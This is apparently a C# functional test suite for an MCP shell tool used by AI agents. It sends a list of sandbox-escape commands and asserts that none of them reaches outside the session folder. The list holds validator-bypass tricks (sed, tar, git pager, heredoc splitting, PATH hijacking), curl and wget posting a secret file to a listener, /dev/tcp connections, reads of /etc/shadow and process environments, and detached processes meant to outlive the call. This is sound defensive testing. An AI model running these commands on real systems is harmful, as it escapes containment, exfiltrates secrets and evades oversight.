using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Text.Json;
using ModelContextProtocol.Client;
using ModelContextProtocol.Protocol;

namespace DeployCode.AppHost.Tests;

// BashGod's escape suite: ways out of a command's folder, each sent through the gateway to execute_command with
// confirm: true, as an agent that confirms everything would. It judges by what happened outside, never by the
// validator's verdict: a refused command and a contained one pass alike, and one thing escaping fails the test.
public sealed partial class ProcessModeFunctionalTests
{
    // {canary}: a host folder anyone may write to; {secret}: a world-readable host file; {port}: the test's listener
    // on the host's loopback; {marker}: marks background processes; {other}: another session's folder.
    private static readonly string[] s_escapes =
    [
        // Writing outside the folder.
        "echo $((touch {canary}/arithmetic) )",
        "echo | sed 's#.*#touch {canary}/sed-e#e'",
        "tar cf /dev/null . --checkpoint=1 --checkpoint-action=exec='touch {canary}/tar'",
        "git init -q . && git config alias.x '!touch {canary}/git-alias' && git x",
        "git -c core.pager='touch {canary}/git-pager' log",
        "cd {canary} && echo x > cd",
        "f={canary}/variable; echo x > $f",
        "env -S 'touch {canary}/env-s'",
        "exec -a ls touch {canary}/exec-a",
        "printf '{canary}/xargs\\n' > args && xargs -a args touch",
        "awk 'BEGIN{system(\"touch {canary}/awk\")}'",
        "perl -e 'open(F, \">{canary}/perl\")'",
        "python3 -c \"open('{canary}/python', 'w')\"",
        "printf '#!/bin/sh\\ntouch {canary}/planted\\n' > ls && chmod +x ls && ./ls",
        "printf '#!/bin/sh\\ntouch {canary}/path\\n' > cat && chmod +x cat && PATH=.:$PATH cat x",
        "bash <<EOF\ntou\\\nch {canary}/heredoc\nEOF",
        "ln -s {canary} link && echo x > link/symlink",
        "cp /etc/os-release {canary}/cp",
        "script -qc 'touch {canary}/script' /dev/null",
        "find . -maxdepth 0 -exec touch {canary}/find \\;",
        // Connecting out.
        "curl -s -m 3 -X POST --data-binary @{secret} http://127.0.0.1:{port}/",
        "bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}'",
        "python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 3)\"",
        "wget -q -T 3 -O- --post-file={secret} http://127.0.0.1:{port}/",
        // Reading host files and other processes' secrets.
        "cat {secret}",
        "cat {secretGlob}",
        "cd {secretFolder} && cat secret",
        "dd if={secret} of=copy 2>/dev/null; cat copy",
        "ps auxeww",
        "cat /proc/*/environ",
        "cat /etc/shadow",
        // Another session's folder.
        "cat {other}/private.txt",
        "ls -la {other}",
        // Outliving the call.
        "sleep 61.{marker} &",
        "nohup sleep 62.{marker} >/dev/null 2>&1 &",
        "(sleep 63.{marker} &)",
        "setsid -f sleep 64.{marker}",
        "sleep 65.{marker} & disown",
    ];

    [Fact]
    public async Task NoBashGodCommandReachesOutsideItsFolderWhateverTheValidatorSays()
    {
        var outside = Directory.CreateTempSubdirectory("deploycode-escape-");
        try
        {
            // What an unsandboxed command could reach: a folder anyone may write, a file anyone may read.
            var canary = Directory.CreateDirectory(Path.Combine(outside.FullName, "canary")).FullName;
            File.SetUnixFileMode(canary, (UnixFileMode)0b111_111_111);
            File.SetUnixFileMode(outside.FullName, (UnixFileMode)0b111_101_101);
            var secret = Path.Combine(outside.FullName, "secret");
            var secretText = $"host-secret-{Guid.NewGuid():N}";
            await File.WriteAllTextAsync(secret, secretText, Cancellation);
            File.SetUnixFileMode(secret, (UnixFileMode)0b110_100_100);
            using var listener = new TcpListener(IPAddress.Loopback, 0);
            listener.Start();
            var marker = Random.Shared.Next(100_000, 1_000_000).ToString(System.Globalization.CultureInfo.InvariantCulture);

            // Another user's session, with something private in it.
            var otherTokens = await Identity.SignInAsync(await Identity.NewUserAsync("operator", Cancellation), Cancellation);
            string other;
            await using (var client = await McpClientAsync("/mcp/bashgod", otherTokens.AccessToken))
            {
                var made = await CallAsync(client, "execute_command", new { command = "echo other-private-text > private.txt && pwd" });
                other = made.GetProperty("stdout").GetString()!.Trim();
            }

            var tokens = await Identity.SignInAsync(await Identity.NewUserAsync("operator", Cancellation), Cancellation);
            var outputs = new List<(string Command, string Output)>();
            var escaped = new List<string>();
            var verdicts = new Dictionary<string, int>(StringComparer.Ordinal);
            await using (var client = await McpClientAsync("/mcp/bashgod", tokens.AccessToken))
            {
                foreach (var template in s_escapes)
                {
                    var command = template.Replace("{canary}", canary, StringComparison.Ordinal)
                        .Replace("{secretGlob}", secret.Replace("/tmp/", "/t?p/", StringComparison.Ordinal), StringComparison.Ordinal)
                        .Replace("{secretFolder}", outside.FullName, StringComparison.Ordinal)
                        .Replace("{secret}", secret, StringComparison.Ordinal)
                        .Replace("{port}", ((IPEndPoint)listener.LocalEndpoint).Port.ToString(System.Globalization.CultureInfo.InvariantCulture), StringComparison.Ordinal)
                        .Replace("{marker}", marker, StringComparison.Ordinal)
                        .Replace("{other}", other, StringComparison.Ordinal);
                    var result = await client.CallToolAsync("execute_command", new Dictionary<string, object?> { ["command"] = command, ["confirm"] = true, ["timeout_seconds"] = 10 }, cancellationToken: Cancellation);
                    var text = Assert.IsType<TextContentBlock>(Assert.Single(result.Content)).Text;
                    var outcome = result.IsError == true ? "refused" : JsonDocument.Parse(text).RootElement.GetProperty("exitCode").ValueKind == JsonValueKind.Number ? "ran" : "timed out";
                    verdicts[outcome] = verdicts.GetValueOrDefault(outcome) + 1;
                    outputs.Add((command, text));

                    // Whatever it left behind is gone by the time the call has answered.
                    if (await LeftRunningAsync(marker) is { Length: > 0 } left)
                    {
                        escaped.Add($"still running after '{command}' answered: {left}");
                        await KillAsync(marker);
                    }
                }
            }

            TestContext.Current.SendDiagnosticMessage($"BashGod escape suite: {s_escapes.Length} commands, {string.Join(", ", verdicts.Select(pair => $"{pair.Value} {pair.Key}"))}");
            Assert.True(s_escapes.Length >= 30);
            escaped.AddRange(Directory.GetFileSystemEntries(canary).Select(path => $"written outside its folder: {Path.GetFileName(path)}"));
            var connections = 0;
            while (listener.Pending())
            {
                using var accepted = await listener.AcceptTcpClientAsync(Cancellation);
                connections++;
            }

            if (connections > 0)
            {
                escaped.Add($"{connections} connection(s) reached the host's loopback");
            }

            foreach (var (command, output) in outputs)
            {
                if (output.Contains(secretText, StringComparison.Ordinal))
                {
                    escaped.Add($"'{command}' read the host's file");
                }

                if (output.Contains("other-private-text", StringComparison.Ordinal))
                {
                    escaped.Add($"'{command}' read another session's file");
                }

                escaped.AddRange(platform.Secrets.Where(entry => output.Contains(entry.Value, StringComparison.Ordinal)).Select(entry => $"'{command}' showed the platform's {entry.Key}"));
            }

            Assert.True(escaped.Count == 0, $"{escaped.Count} escape(s):\n{string.Join("\n", escaped)}");
        }
        finally
        {
            outside.Delete(recursive: true);
        }
    }

    private static async Task KillAsync(string marker)
    {
        using var pkill = Process.Start("pkill", ["-f", $"sleep 6[1-5]\\.{marker}"])!;
        await pkill.WaitForExitAsync(Cancellation);
    }

    private static async Task<string> LeftRunningAsync(string marker)
    {
        using var pgrep = Process.Start(new ProcessStartInfo("pgrep", ["-af", $"sleep 6[1-5]\\.{marker}"]) { RedirectStandardOutput = true })!;
        var left = await pgrep.StandardOutput.ReadToEndAsync(Cancellation);
        await pgrep.WaitForExitAsync(Cancellation);
        return left.Trim();
    }
}
